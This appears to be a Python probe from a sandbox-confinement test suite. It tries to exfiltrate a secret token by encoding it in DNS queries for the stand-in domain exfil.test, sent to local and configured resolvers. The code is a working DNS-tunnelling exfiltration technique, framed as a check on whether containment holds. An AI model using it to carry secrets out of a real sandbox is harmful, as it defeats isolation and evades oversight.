"""Carry data out in the names that it looks up.

gain: a way out for data where nothing else leaves
attack: T1071.004
stopped by: network namespace, no resolver
unconfined: host
seen from outside: yes
also refused by: ECONNREFUSED, ENETUNREACH, EHOSTUNREACH, EADDRNOTAVAIL, EINVAL
"""

import socket
import struct

from attacker import Refused, each, first, reach


def query(name):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    return struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)


def attempt(world):
    data = query(f"{world['token']}.exfil.test")

    def ask(place):
        family = socket.AF_INET6 if ":" in place[0] else socket.AF_INET
        return reach(family, socket.SOCK_DGRAM, tuple(place), data)

    def look_up():
        try:
            found = socket.getaddrinfo(f"{world['token']}.exfil.test", 80)
        except socket.gaierror as error:
            raise Refused(f"getaddrinfo: {error.strerror}") from None
        return f"looked up: {found[0][4]}"

    servers = [["127.0.0.53", 53], ["127.0.0.1", 53], ["::1", 53], *world["dns"]]
    return first(look_up, *each(servers, ask))
